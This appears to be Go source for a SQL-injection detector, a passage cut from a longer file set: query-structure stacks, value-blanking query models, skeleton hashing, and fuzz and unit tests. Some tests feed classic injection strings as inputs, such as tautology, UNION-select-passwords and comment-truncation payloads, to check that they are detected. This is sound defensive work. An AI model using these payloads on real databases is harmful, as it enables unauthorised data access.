	CatBool        // BOOL_ITEM
	CatNull        // NULL_ITEM
	CatPlaceholder // PARAM_ITEM: '?' marker
)

var categoryNames = map[Category]string{
	CatInvalid:     "INVALID",
	CatSelectField: "SELECT_FIELD",
	CatFromTable:   "FROM_TABLE",
	CatJoin:        "JOIN_ITEM",
	CatField:       "FIELD_ITEM",
	CatFunc:        "FUNC_ITEM",
	CatCond:        "COND_ITEM",
	CatOrder:       "ORDER_ITEM",
	CatGroup:       "GROUP_ITEM",
	CatHaving:      "HAVING_ITEM",
	CatLimit:       "LIMIT_ITEM",
	CatDistinct:    "DISTINCT_ITEM",
	CatUnion:       "UNION_ITEM",
	CatSubBegin:    "SUBSELECT_BEGIN",
	CatSubEnd:      "SUBSELECT_END",
	CatInsertTable: "INSERT_TABLE",
	CatInsertField: "INSERT_FIELD",
	CatRowBegin:    "ROW_ITEM",
	CatUpdateTable: "UPDATE_TABLE",
	CatSetField:    "SET_FIELD",
	CatDeleteTable: "DELETE_TABLE",
	CatDDL:         "DDL_ITEM",
	CatInt:         "INT_ITEM",
	CatReal:        "REAL_ITEM",
	CatString:      "STRING_ITEM",
	CatBool:        "BOOL_ITEM",
	CatNull:        "NULL_ITEM",
	CatPlaceholder: "PARAM_ITEM",
}

// String returns the paper-style category name.
func (c Category) String() string {
	if s, ok := categoryNames[c]; ok {
		return s
	}
	return fmt.Sprintf("Category(%d)", int(c))
}

// IsData reports whether nodes of this category carry literal data that a
// query model must blank out (the ⟨DATA TYPE, DATA⟩ nodes of the paper).
func (c Category) IsData() bool {
	switch c {
	case CatInt, CatReal, CatString, CatBool, CatNull, CatPlaceholder:
		return true
	default:
		return false
	}
}

// Bottom is the special value a query model stores in place of literal
// data (the paper's ⊥).
const Bottom = "⊥"

// Node is one entry of a query structure or query model stack.
type Node struct {
	Cat Category `json:"cat"`
	// Data is the element data (field name, function name, operator,
	// table name) for element nodes, or the literal value rendered as a
	// string for data nodes. In a query model, data nodes hold Bottom.
	Data string `json:"data"`
}

// String renders the node the way the paper's figures do.
func (n Node) String() string {
	return fmt.Sprintf("%s %s", n.Cat, n.Data)
}

// Stack is a query structure: the flattened item stack of one statement.
// Index 0 is the bottom of the stack (the first clause pushed, e.g.
// FROM_TABLE for a SELECT), matching the bottom-to-top construction in
// the paper's Fig. 2.
type Stack []Node

// String renders the stack top-down, one node per line, as in Figs. 2–4.
func (s Stack) String() string {
	var b strings.Builder
	for i := len(s) - 1; i >= 0; i-- {
		b.WriteString(s[i].String())
		if i > 0 {
			b.WriteString("\n")
		}
	}
	return b.String()
}

// Clone returns a deep copy of the stack.
func (s Stack) Clone() Stack {
	out := make(Stack, len(s))
	copy(out, s)
	return out
}

// DataNodes returns the indices of the data nodes in the stack.
func (s Stack) DataNodes() []int {
	var idx []int
	for i, n := range s {
		if n.Cat.IsData() {
			idx = append(idx, i)
		}
	}
	return idx
}

// StringData returns the values of all STRING_ITEM nodes, in stack order.
// The stored-injection plugins inspect these: they are the literal values
// an INSERT or UPDATE is about to write into the database.
func (s Stack) StringData() []string {
	var out []string
	for _, n := range s {
		if n.Cat == CatString {
			out = append(out, n.Data)
		}
	}
	return out
}

// Model is a learned query model: a stack whose data nodes are blanked.
type Model struct {
	Nodes Stack `json:"nodes"`
	// fp caches Fingerprint, computed once at ModelOf/Unmarshal time.
	// Models live in read-mostly shared sets, so the cache must be filled
	// before a model is published — Fingerprint itself never mutates.
	fp uint64
}

// ModelOf derives the query model from a query structure by replacing the
// DATA of every data node with ⊥ (paper §II-C1).
func ModelOf(qs Stack) Model {
	nodes := qs.Clone()
	for i := range nodes {
		if nodes[i].Cat.IsData() {
			nodes[i].Data = Bottom
		}
	}
	return Model{Nodes: nodes, fp: fingerprintOf(nodes)}
}

// String renders the model top-down like a stack.
func (m Model) String() string { return m.Nodes.String() }

// Fingerprint returns a stable 64-bit hash of the model, used for
// persistence integrity checks and ablation benchmarks. Models built by
// ModelOf or decoded from JSON answer from a precomputed cache.
func (m Model) Fingerprint() uint64 {
	if m.fp != 0 {
		return m.fp
	}
	return fingerprintOf(m.Nodes)
}

// UnmarshalJSON decodes the persisted form and seals the fingerprint
// cache, so loaded models are as cheap to re-fingerprint (Store.Save,
// Store.Put dedup) as freshly learned ones.
func (m *Model) UnmarshalJSON(data []byte) error {
	var aux struct {
		Nodes Stack `json:"nodes"`
	}
	if err := json.Unmarshal(data, &aux); err != nil {
		return err
	}
	m.Nodes = aux.Nodes
	m.fp = fingerprintOf(aux.Nodes)
	return nil
}

func fingerprintOf(nodes Stack) uint64 {
	h := fnv.New64a()
	for _, n := range nodes {
		_, _ = fmt.Fprintf(h, "%d\x00%s\x00", n.Cat, n.Data)
	}
	return h.Sum64()
}

// BuildStack flattens a validated statement into its query structure.
// Construction runs in a pooled scratch buffer and the result is copied
// out at exactly the built size: one right-sized allocation per call
// instead of a geometric append-growth chain.
func BuildStack(stmt sqlparser.Statement) Stack {
	sp := scratchPool.Get().(*Stack)
	scratch := BuildStackInto(*sp, stmt)
	out := make(Stack, len(scratch))
	copy(out, scratch)
	*sp = scratch[:0]
	scratchPool.Put(sp)
	return out
}

// BuildStackInto flattens stmt into buf[:0], growing the buffer only when
// the statement outgrows it, and returns the filled stack. Hot paths that
// use the stack transiently (the detection pipeline) pass a pooled buffer
// so steady-state QS construction allocates nothing; the returned stack
// aliases buf and must not outlive the caller's ownership of it.
func BuildStackInto(buf Stack, stmt sqlparser.Statement) Stack {
	b := stackBuilder{nodes: buf[:0]}
	b.statement(stmt)
	return b.nodes
}

// scratchPool recycles BuildStack's construction buffers.
var scratchPool = sync.Pool{New: func() any {
	s := make(Stack, 0, 64)
	return &s
}}

type stackBuilder struct {
	nodes Stack
}

func (b *stackBuilder) push(cat Category, data string) {
	b.nodes = append(b.nodes, Node{Cat: cat, Data: data})
}

func (b *stackBuilder) statement(stmt sqlparser.Statement) {
	switch s := stmt.(type) {
	case *sqlparser.SelectStmt:
		b.selectStmt(s)
	case *sqlparser.InsertStmt:
		b.insertStmt(s)
	case *sqlparser.UpdateStmt:
		b.updateStmt(s)
	case *sqlparser.DeleteStmt:
		b.deleteStmt(s)
	case *sqlparser.CreateTableStmt:
		b.push(CatDDL, "CREATE TABLE "+s.Table)
	case *sqlparser.DropTableStmt:
		b.push(CatDDL, "DROP TABLE "+s.Table)
	case *sqlparser.ShowTablesStmt:
		b.push(CatDDL, "SHOW TABLES")
	case *sqlparser.DescribeStmt:
		b.push(CatDDL, "DESCRIBE "+s.Table)
	case *sqlparser.ExplainStmt:
		b.push(CatDDL, "EXPLAIN")
		b.selectStmt(s.Select)
	}
}

func (b *stackBuilder) selectStmt(s *sqlparser.SelectStmt) {
	// Bottom-up, as in Fig. 2: FROM tables first, then the SELECT list,
	// then WHERE, GROUP BY, HAVING, ORDER BY, LIMIT, UNION.
	for _, t := range s.From {
		if t.Join != "" && t.Join != "CROSS" {
			b.push(CatJoin, t.Join+" JOIN")
		}
		if t.Subquery != nil {
			b.push(CatSubBegin, "derived")
			b.selectStmt(t.Subquery)
			b.push(CatSubEnd, "derived")
		} else {
			b.push(CatFromTable, t.Name)
		}
		if t.On != nil {
			b.expr(t.On)
		}
	}
	if s.Distinct {
		b.push(CatDistinct, "DISTINCT")
	}
	for _, f := range s.Fields {
		switch {
		case f.Star:
			b.push(CatSelectField, "*")
		case f.TableStar != "":
			b.push(CatSelectField, f.TableStar+".*")
		default:
			if col, ok := f.Expr.(*sqlparser.ColumnRef); ok {
				b.push(CatSelectField, columnName(col))
			} else {
				// Computed projection: mark the slot, then push the
				// expression items so structure changes are visible.
				b.push(CatSelectField, "expr")
				b.expr(f.Expr)
			}
		}
	}
	if s.Where != nil {
		b.expr(s.Where)
	}
	for _, g := range s.GroupBy {
		b.push(CatGroup, "GROUP BY")
		b.expr(g)
	}
	if s.Having != nil {
		b.push(CatHaving, "HAVING")
		b.expr(s.Having)
	}
	for _, o := range s.OrderBy {
		dir := "ASC"
		if o.Desc {
			dir = "DESC"
		}
		b.push(CatOrder, dir)
		b.expr(o.Expr)
	}
	if s.Limit != nil {
		b.push(CatLimit, "LIMIT")
		b.expr(s.Limit.Count)
		if s.Limit.Offset != nil {
			b.push(CatLimit, "OFFSET")
			b.expr(s.Limit.Offset)
		}
	}
	if s.Union != nil {
		kind := "UNION"
		if s.Union.All {
			kind = "UNION ALL"
		}
		b.push(CatUnion, kind)
		b.selectStmt(s.Union.Next)
	}
}

func (b *stackBuilder) insertStmt(s *sqlparser.InsertStmt) {
	b.push(CatInsertTable, s.Table)
	for _, c := range s.Columns {
		b.push(CatInsertField, c)
	}
	if s.Select != nil {
		b.push(CatSubBegin, "insert-select")
		b.selectStmt(s.Select)
		b.push(CatSubEnd, "insert-select")
		return
	}
	for _, row := range s.Rows {
		b.push(CatRowBegin, "VALUES")
		for _, e := range row {
			b.expr(e)
		}
	}
}

func (b *stackBuilder) updateStmt(s *sqlparser.UpdateStmt) {
	b.push(CatUpdateTable, s.Table)
	for _, a := range s.Sets {
		b.push(CatSetField, a.Column)
		b.expr(a.Value)
	}
	if s.Where != nil {
		b.expr(s.Where)
	}
	b.orderLimit(s.OrderBy, s.Limit)
}

func (b *stackBuilder) deleteStmt(s *sqlparser.DeleteStmt) {
	b.push(CatDeleteTable, s.Table)
	if s.Where != nil {
		b.expr(s.Where)
	}
	b.orderLimit(s.OrderBy, s.Limit)
}

func (b *stackBuilder) orderLimit(orderBy []sqlparser.OrderItem, limit *sqlparser.Limit) {
	for _, o := range orderBy {
		dir := "ASC"
		if o.Desc {
			dir = "DESC"
		}
		b.push(CatOrder, dir)
		b.expr(o.Expr)
	}
	if limit != nil {
		b.push(CatLimit, "LIMIT")
		b.expr(limit.Count)
		if limit.Offset != nil {
			b.push(CatLimit, "OFFSET")
			b.expr(limit.Offset)
		}
	}
}

// expr pushes an expression in post-order (operands before operator),
// matching the bottom-up item order of the paper's figures: for
// "reservID = 'ID34FG'" the stack gains FIELD_ITEM reservID,
// STRING_ITEM ID34FG, FUNC_ITEM =.
func (b *stackBuilder) expr(e sqlparser.Expr) {
	switch x := e.(type) {
	case *sqlparser.Literal:
		b.literal(x)
	case *sqlparser.ColumnRef:
		b.push(CatField, columnName(x))
	case *sqlparser.BinaryExpr:
		b.expr(x.Left)
		b.expr(x.Right)
		switch x.Op {
		case "AND", "OR", "XOR":
			b.push(CatCond, x.Op)
		default:
			b.push(CatFunc, x.Op)
		}
	case *sqlparser.UnaryExpr:
		b.expr(x.Operand)
		if x.Op == "NOT" {
			b.push(CatCond, "NOT")
		} else {
			b.push(CatFunc, x.Op)
		}
	case *sqlparser.FuncCall:
		for _, a := range x.Args {
			b.expr(a)
		}
		name := x.Name
		if x.Star {
			name += "(*)"
		}
		b.push(CatFunc, name)
	case *sqlparser.InExpr:
		b.expr(x.Left)
		if x.Subquery != nil {
			b.push(CatSubBegin, "in-subquery")
			b.selectStmt(x.Subquery)
			b.push(CatSubEnd, "in-subquery")
		} else {
			for _, e := range x.List {
				b.expr(e)
			}
		}
		op := "IN"
		if x.Not {
			op = "NOT IN"
		}
		b.push(CatFunc, op)
	case *sqlparser.BetweenExpr:
		b.expr(x.Expr)
		b.expr(x.Low)
		b.expr(x.High)
		op := "BETWEEN"
		if x.Not {
			op = "NOT BETWEEN"
		}
		b.push(CatFunc, op)
	case *sqlparser.IsNullExpr:
		b.expr(x.Expr)
		op := "IS NULL"
		if x.Not {
			op = "IS NOT NULL"
		}
		b.push(CatFunc, op)
	case *sqlparser.SubqueryExpr:
		b.push(CatSubBegin, "scalar")
		b.selectStmt(x.Select)
		b.push(CatSubEnd, "scalar")
	case *sqlparser.ExistsExpr:
		b.push(CatSubBegin, "exists")
		b.selectStmt(x.Select)
		b.push(CatSubEnd, "exists")
		op := "EXISTS"
		if x.Not {
			op = "NOT EXISTS"
		}
		b.push(CatFunc, op)
	case *sqlparser.Placeholder:
		b.push(CatPlaceholder, "?")
	case *sqlparser.CaseExpr:
		if x.Operand != nil {
			b.expr(x.Operand)
		}
		for _, w := range x.Whens {
			b.expr(w.Cond)
			b.expr(w.Result)
			b.push(CatFunc, "WHEN")
		}
		if x.Else != nil {
			b.expr(x.Else)
			b.push(CatFunc, "ELSE")
		}
		b.push(CatFunc, "CASE")
	}
}

func (b *stackBuilder) literal(l *sqlparser.Literal) {
	switch l.Kind {
	case sqlparser.LiteralInt:
		b.push(CatInt, strconv.FormatInt(l.Int, 10))
	case sqlparser.LiteralFloat:
		b.push(CatReal, strconv.FormatFloat(l.Float, 'g', -1, 64))
	case sqlparser.LiteralString:
		b.push(CatString, l.Str)
	case sqlparser.LiteralBool:
		b.push(CatBool, strconv.FormatBool(l.Bool))
	case sqlparser.LiteralNull:
		b.push(CatNull, "NULL")
	}
}

func columnName(c *sqlparser.ColumnRef) string {
	if c.Table != "" {
		return c.Table + "." + c.Name
	}
	return c.Name
}
