package qstruct

import (
	"strings"

	"github.com/septic-db/septic/internal/sqlparser"
)

// Skeleton derives the coarse, injection-stable identity of a statement:
// the statement kind plus the names that an attacker cannot alter by
// injecting into a data value — target tables, INSERT/UPDATE column
// lists, and the SELECT projection list.
//
// SEPTIC's internal query identifier is a hash of this skeleton
// (paper §II-C2: "the second identifier is produced by SEPTIC based on
// the QM in order to ensure uniqueness"). It must be computed from parts
// of the query an injection leaves intact: if the identifier covered the
// full structure, an attacked query would hash to an unknown ID and be
// treated as a *new* query instead of a mismatch against the learned
// model. Hashing only the skeleton guarantees the attacked query finds
// the victim query's model and fails the comparison instead.
func Skeleton(stmt sqlparser.Statement) string {
	var b strings.Builder
	writeSkeleton(&b, stmt)
	return b.String()
}

func writeSkeleton(b *strings.Builder, stmt sqlparser.Statement) {
	switch s := stmt.(type) {
	case *sqlparser.SelectStmt:
		b.WriteString("SELECT|")
		for _, f := range s.Fields {
			switch {
			case f.Star:
				b.WriteString("*")
			case f.TableStar != "":
				b.WriteString(f.TableStar + ".*")
			case f.Alias != "":
				b.WriteString(f.Alias)
			default:
				if col, ok := f.Expr.(*sqlparser.ColumnRef); ok {
					b.WriteString(col.Name)
				} else {
					b.WriteString("expr")
				}
			}
			b.WriteString(",")
		}
		b.WriteString("|")
		for _, t := range s.From {
			if t.Subquery != nil {
				b.WriteString("(derived)")
			} else {
				b.WriteString(t.Name)
			}
			b.WriteString(",")
		}
	case *sqlparser.InsertStmt:
		b.WriteString("INSERT|")
		b.WriteString(s.Table)
		b.WriteString("|")
		b.WriteString(strings.Join(s.Columns, ","))
	case *sqlparser.UpdateStmt:
		b.WriteString("UPDATE|")
		b.WriteString(s.Table)
		b.WriteString("|")
		for _, a := range s.Sets {
			b.WriteString(a.Column)
			b.WriteString(",")
		}
	case *sqlparser.DeleteStmt:
		b.WriteString("DELETE|")
		b.WriteString(s.Table)
	case *sqlparser.CreateTableStmt:
		b.WriteString("CREATE|")
		b.WriteString(s.Table)
	case *sqlparser.DropTableStmt:
		b.WriteString("DROP|")
		b.WriteString(s.Table)
	case *sqlparser.ShowTablesStmt:
		b.WriteString("SHOW TABLES")
	case *sqlparser.DescribeStmt:
		b.WriteString("DESCRIBE|")
		b.WriteString(s.Table)
	case *sqlparser.ExplainStmt:
		b.WriteString("EXPLAIN|")
		writeSkeleton(b, s.Select)
	}
}
