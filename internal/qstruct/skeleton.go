package qstruct

import (
	"io"
	"strings"

	"github.com/septic-db/septic/internal/sqlparser"
)

// Skeleton derives the coarse, injection-stable identity of a statement:
// the statement kind plus the names that an attacker cannot alter by
// injecting into a data value — target tables, INSERT/UPDATE column
// lists, and the SELECT projection list.
//
// SEPTIC's internal query identifier is a hash of this skeleton
// (paper §II-C2: "the second identifier is produced by SEPTIC based on
// the QM in order to ensure uniqueness"). It must be computed from parts
// of the query an injection leaves intact: if the identifier covered the
// full structure, an attacked query would hash to an unknown ID and be
// treated as a *new* query instead of a mismatch against the learned
// model. Hashing only the skeleton guarantees the attacked query finds
// the victim query's model and fails the comparison instead.
func Skeleton(stmt sqlparser.Statement) string {
	var b strings.Builder
	writeSkeleton(&b, stmt)
	return b.String()
}

// SkeletonHash returns the FNV-1a hash of the statement's skeleton,
// streamed directly into the hash state instead of materializing the
// skeleton string first. It is byte-for-byte equivalent to hashing
// Skeleton(stmt) with hash/fnv's New64a — identifiers (and therefore
// persisted model stores) are stable across the two paths — but the hot
// path allocates nothing.
func SkeletonHash(stmt sqlparser.Statement) uint64 {
	h := skeletonHasher(fnv64Offset)
	writeSkeleton(&h, stmt)
	return uint64(h)
}

// FNV-1a 64-bit parameters, matching hash/fnv.
const (
	fnv64Offset = 14695981039346656037
	fnv64Prime  = 1099511628211
)

// skeletonHasher is an io.StringWriter adapter over the raw FNV-1a state:
// writeSkeleton streams skeleton fragments into it and the hash updates
// in place, with no buffer and no heap allocation.
type skeletonHasher uint64

// WriteString implements io.StringWriter over the FNV-1a state.
func (h *skeletonHasher) WriteString(s string) (int, error) {
	v := uint64(*h)
	for i := 0; i < len(s); i++ {
		v ^= uint64(s[i])
		v *= fnv64Prime
	}
	*h = skeletonHasher(v)
	return len(s), nil
}

// writeSkeleton streams the skeleton to any string writer. It is generic
// (instantiated for *strings.Builder and *skeletonHasher) so the hashing
// path avoids an interface conversion and keeps the hasher off the heap.
func writeSkeleton[W io.StringWriter](b W, stmt sqlparser.Statement) {
	switch s := stmt.(type) {
	case *sqlparser.SelectStmt:
		b.WriteString("SELECT|")
		for _, f := range s.Fields {
			switch {
			case f.Star:
				b.WriteString("*")
			case f.TableStar != "":
				b.WriteString(f.TableStar)
				b.WriteString(".*")
			case f.Alias != "":
				b.WriteString(f.Alias)
			default:
				if col, ok := f.Expr.(*sqlparser.ColumnRef); ok {
					b.WriteString(col.Name)
				} else {
					b.WriteString("expr")
				}
			}
			b.WriteString(",")
		}
		b.WriteString("|")
		for _, t := range s.From {
			if t.Subquery != nil {
				b.WriteString("(derived)")
			} else {
				b.WriteString(t.Name)
			}
			b.WriteString(",")
		}
	case *sqlparser.InsertStmt:
		b.WriteString("INSERT|")
		b.WriteString(s.Table)
		b.WriteString("|")
		for i, c := range s.Columns {
			if i > 0 {
				b.WriteString(",")
			}
			b.WriteString(c)
		}
	case *sqlparser.UpdateStmt:
		b.WriteString("UPDATE|")
		b.WriteString(s.Table)
		b.WriteString("|")
		for _, a := range s.Sets {
			b.WriteString(a.Column)
			b.WriteString(",")
		}
	case *sqlparser.DeleteStmt:
		b.WriteString("DELETE|")
		b.WriteString(s.Table)
	case *sqlparser.CreateTableStmt:
		b.WriteString("CREATE|")
		b.WriteString(s.Table)
	case *sqlparser.DropTableStmt:
		b.WriteString("DROP|")
		b.WriteString(s.Table)
	case *sqlparser.ShowTablesStmt:
		b.WriteString("SHOW TABLES")
	case *sqlparser.DescribeStmt:
		b.WriteString("DESCRIBE|")
		b.WriteString(s.Table)
	case *sqlparser.ExplainStmt:
		b.WriteString("EXPLAIN|")
		writeSkeleton(b, s.Select)
	}
}
