package qstruct

import (
	"hash/fnv"
	"io"
	"reflect"
	"testing"

	"github.com/septic-db/septic/internal/sqlparser"
)

var fuzzSeeds = []string{
	"SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234",
	"SELECT * FROM tickets WHERE reservID = 'ID34FG\u02bc-- ' AND creditCard = 0",
	"SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0",
	"INSERT INTO t (a, b) VALUES ('x\\'y', 0x41), (NULL, -2)",
	"UPDATE t SET a = a + 1 WHERE b IN (SELECT c FROM u)",
	"DELETE FROM t WHERE a BETWEEN 1 AND 2 LIMIT 5",
	"SELECT CASE WHEN a IS NULL THEN 'x' ELSE concat(a, 'y') END FROM t ORDER BY 1 DESC",
	"SELECT * FROM a JOIN b ON a.id = b.id WHERE EXISTS (SELECT 1 FROM c)",
}

// FuzzBuildStack asserts the three properties detection rests on: stack
// building never panics on a parsed statement, it is deterministic (two
// builds of one AST agree — the verdict cache assumes this), and
// ModelOf blanks every data node to ⊥ so no user value survives into a
// stored model.
func FuzzBuildStack(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, query string) {
		stmt, err := sqlparser.Parse(sqlparser.DecodeCharset(query))
		if err != nil {
			return
		}
		qs := BuildStack(stmt)
		if len(qs) == 0 {
			t.Fatalf("empty stack for accepted statement %q", query)
		}
		if again := BuildStack(stmt); !reflect.DeepEqual(qs, again) {
			t.Fatalf("BuildStack not deterministic for %q:\n%v\nvs\n%v", query, qs, again)
		}
		m := ModelOf(qs)
		if len(m.Nodes) != len(qs) {
			t.Fatalf("ModelOf changed stack length: %d -> %d", len(qs), len(m.Nodes))
		}
		for i, n := range m.Nodes {
			if n.Cat.IsData() && n.Data != Bottom {
				t.Fatalf("model node %d leaks data %q (cat %s)", i, n.Data, n.Cat)
			}
		}
	})
}

// FuzzSkeletonHash asserts the documented equivalence between the
// allocation-free streaming hash and hashing the materialized skeleton
// with hash/fnv — persisted model stores depend on the two paths never
// diverging — plus determinism of both.
func FuzzSkeletonHash(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, query string) {
		stmt, err := sqlparser.Parse(sqlparser.DecodeCharset(query))
		if err != nil {
			return
		}
		skel := Skeleton(stmt)
		h := fnv.New64a()
		io.WriteString(h, skel)
		if got := SkeletonHash(stmt); got != h.Sum64() {
			t.Fatalf("streamed hash %x != fnv(Skeleton) %x for %q", got, h.Sum64(), query)
		}
		if Skeleton(stmt) != skel || SkeletonHash(stmt) != h.Sum64() {
			t.Fatalf("skeleton not deterministic for %q", query)
		}
	})
}
