package qstruct

import (
	"strings"
	"testing"

	"github.com/septic-db/septic/internal/sqlparser"
)

func buildQS(t *testing.T, query string) Stack {
	t.Helper()
	stmt, err := sqlparser.Parse(query)
	if err != nil {
		t.Fatalf("Parse(%q): %v", query, err)
	}
	return BuildStack(stmt)
}

// ticketsQuery is the running example of the paper (Fig. 2).
const ticketsQuery = "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234"

// TestFigure2QueryStructure reproduces Fig. 2(a): the QS of the tickets
// query, bottom-to-top.
func TestFigure2QueryStructure(t *testing.T) {
	qs := buildQS(t, ticketsQuery)
	want := []Node{
		{CatFromTable, "tickets"},
		{CatSelectField, "*"},
		{CatField, "reservID"},
		{CatString, "ID34FG"},
		{CatFunc, "="},
		{CatField, "creditCard"},
		{CatInt, "1234"},
		{CatFunc, "="},
		{CatCond, "AND"},
	}
	if len(qs) != len(want) {
		t.Fatalf("QS has %d nodes, want %d:\n%s", len(qs), len(want), qs)
	}
	for i, w := range want {
		if qs[i] != w {
			t.Errorf("node %d = %v, want %v", i, qs[i], w)
		}
	}
}

// TestFigure2QueryModel reproduces Fig. 2(b): the QM blanks exactly the
// data nodes (STRING_ITEM and INT_ITEM) to ⊥.
func TestFigure2QueryModel(t *testing.T) {
	qs := buildQS(t, ticketsQuery)
	qm := ModelOf(qs)
	want := []Node{
		{CatFromTable, "tickets"},
		{CatSelectField, "*"},
		{CatField, "reservID"},
		{CatString, Bottom},
		{CatFunc, "="},
		{CatField, "creditCard"},
		{CatInt, Bottom},
		{CatFunc, "="},
		{CatCond, "AND"},
	}
	for i, w := range want {
		if qm.Nodes[i] != w {
			t.Errorf("node %d = %v, want %v", i, qm.Nodes[i], w)
		}
	}
}

// TestFigure3SecondOrderAttack reproduces the paper's second-order SQLI:
// the stored value "ID34FG'-- " read back and concatenated makes the
// trailing AND clause vanish, shrinking the QS — detected at step 1.
func TestFigure3SecondOrderAttack(t *testing.T) {
	qm := ModelOf(buildQS(t, ticketsQuery))
	attacked := buildQS(t, "SELECT * FROM tickets WHERE reservID = 'ID34FG'-- ' AND creditCard = 0")
	want := []Node{
		{CatFromTable, "tickets"},
		{CatSelectField, "*"},
		{CatField, "reservID"},
		{CatString, "ID34FG"},
		{CatFunc, "="},
	}
	if len(attacked) != len(want) {
		t.Fatalf("attacked QS has %d nodes, want %d:\n%s", len(attacked), len(want), attacked)
	}
	for i, w := range want {
		if attacked[i] != w {
			t.Errorf("node %d = %v, want %v", i, attacked[i], w)
		}
	}
	v := Compare(attacked, qm)
	if v.Match || v.Step != StepStructural {
		t.Errorf("verdict = %+v, want structural mismatch", v)
	}
}

// TestFigure4MimicryAttack reproduces the syntax-mimicry attack: the
// injected "AND 1=1" keeps the node count but swaps a FIELD_ITEM for an
// INT_ITEM — detected at step 2, at the node the paper highlights.
func TestFigure4MimicryAttack(t *testing.T) {
	qm := ModelOf(buildQS(t, ticketsQuery))
	attacked := buildQS(t, "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0")
	want := []Node{
		{CatFromTable, "tickets"},
		{CatSelectField, "*"},
		{CatField, "reservID"},
		{CatString, "ID34FG"},
		{CatFunc, "="},
		{CatInt, "1"},
		{CatInt, "1"},
		{CatFunc, "="},
		{CatCond, "AND"},
	}
	if len(attacked) != len(want) {
		t.Fatalf("attacked QS has %d nodes, want %d:\n%s", len(attacked), len(want), attacked)
	}
	for i, w := range want {
		if attacked[i] != w {
			t.Errorf("node %d = %v, want %v", i, attacked[i], w)
		}
	}
	v := Compare(attacked, qm)
	if v.Match || v.Step != StepSyntactical {
		t.Fatalf("verdict = %+v, want syntactical mismatch", v)
	}
	// The first mismatching node is index 5: FIELD_ITEM creditCard in the
	// model vs INT_ITEM 1 in the attacked query (paper: "fourth row" of
	// the top-down rendering).
	if v.Index != 5 {
		t.Errorf("mismatch index = %d, want 5 (%s)", v.Index, v.Detail)
	}
}

func TestCompareMatchesBenignVariant(t *testing.T) {
	qm := ModelOf(buildQS(t, ticketsQuery))
	// Same query, different data values: must match (no false positive).
	benign := buildQS(t, "SELECT * FROM tickets WHERE reservID = 'ZZ99XX' AND creditCard = 9999")
	if v := Compare(benign, qm); !v.Match {
		t.Errorf("benign variant flagged: %+v", v)
	}
}

func TestCompareDataTypeChangeIsDetected(t *testing.T) {
	qm := ModelOf(buildQS(t, ticketsQuery))
	// creditCard given as a string instead of an int: the DATA TYPE of
	// the node changed, which step 2 must flag.
	variant := buildQS(t, "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 'x'")
	v := Compare(variant, qm)
	if v.Match || v.Step != StepSyntactical {
		t.Errorf("verdict = %+v, want syntactical mismatch on data type", v)
	}
}

func TestStackString(t *testing.T) {
	qs := buildQS(t, ticketsQuery)
	out := qs.String()
	lines := strings.Split(out, "\n")
	if len(lines) != len(qs) {
		t.Fatalf("String() has %d lines, want %d", len(lines), len(qs))
	}
	// Top-down: first line is the top of the stack (COND_ITEM AND).
	if lines[0] != "COND_ITEM AND" {
		t.Errorf("top line = %q, want COND_ITEM AND", lines[0])
	}
	if lines[len(lines)-1] != "FROM_TABLE tickets" {
		t.Errorf("bottom line = %q, want FROM_TABLE tickets", lines[len(lines)-1])
	}
}

func TestBuildStackInsert(t *testing.T) {
	qs := buildQS(t, "INSERT INTO users (name, bio) VALUES ('ann', 'hello')")
	want := []Node{
		{CatInsertTable, "users"},
		{CatInsertField, "name"},
		{CatInsertField, "bio"},
		{CatRowBegin, "VALUES"},
		{CatString, "ann"},
		{CatString, "hello"},
	}
	if len(qs) != len(want) {
		t.Fatalf("QS = \n%s", qs)
	}
	for i, w := range want {
		if qs[i] != w {
			t.Errorf("node %d = %v, want %v", i, qs[i], w)
		}
	}
}

func TestBuildStackUpdate(t *testing.T) {
	qs := buildQS(t, "UPDATE users SET bio = 'x' WHERE id = 3")
	want := []Node{
		{CatUpdateTable, "users"},
		{CatSetField, "bio"},
		{CatString, "x"},
		{CatField, "id"},
		{CatInt, "3"},
		{CatFunc, "="},
	}
	for i, w := range want {
		if qs[i] != w {
			t.Errorf("node %d = %v, want %v", i, qs[i], w)
		}
	}
}

func TestBuildStackDelete(t *testing.T) {
	qs := buildQS(t, "DELETE FROM logs WHERE ts < 100")
	if qs[0].Cat != CatDeleteTable || qs[0].Data != "logs" {
		t.Errorf("node 0 = %v, want DELETE_TABLE logs", qs[0])
	}
}

func TestBuildStackSubqueryMarkers(t *testing.T) {
	qs := buildQS(t, "SELECT * FROM t WHERE id IN (SELECT id FROM u)")
	var begins, ends int
	for _, n := range qs {
		switch n.Cat {
		case CatSubBegin:
			begins++
		case CatSubEnd:
			ends++
		}
	}
	if begins != 1 || ends != 1 {
		t.Errorf("subquery markers begin=%d end=%d, want 1/1", begins, ends)
	}
}

func TestBuildStackUnionMarker(t *testing.T) {
	qs := buildQS(t, "SELECT id FROM a UNION SELECT pw FROM b")
	var sawUnion bool
	for _, n := range qs {
		if n.Cat == CatUnion {
			sawUnion = true
		}
	}
	if !sawUnion {
		t.Errorf("UNION_ITEM missing:\n%s", qs)
	}
}

// TestUnionInjectionChangesStructure: a classic UNION-based injection
// must never compare equal to the original query's model.
func TestUnionInjectionChangesStructure(t *testing.T) {
	qm := ModelOf(buildQS(t, "SELECT name FROM products WHERE id = 7"))
	attacked := buildQS(t, "SELECT name FROM products WHERE id = 7 UNION SELECT passwd FROM users-- ")
	if v := Compare(attacked, qm); v.Match {
		t.Error("UNION injection not detected")
	}
}

// TestTautologyInjectionChangesStructure: OR 1=1 adds nodes.
func TestTautologyInjectionChangesStructure(t *testing.T) {
	qm := ModelOf(buildQS(t, "SELECT * FROM users WHERE name = 'ann' AND pass = 'pw'"))
	attacked := buildQS(t, "SELECT * FROM users WHERE name = 'ann' OR 1=1-- ' AND pass = 'x'")
	v := Compare(attacked, qm)
	if v.Match {
		t.Error("tautology injection not detected")
	}
}

func TestModelOfDoesNotMutateInput(t *testing.T) {
	qs := buildQS(t, ticketsQuery)
	_ = ModelOf(qs)
	if qs[3].Data != "ID34FG" {
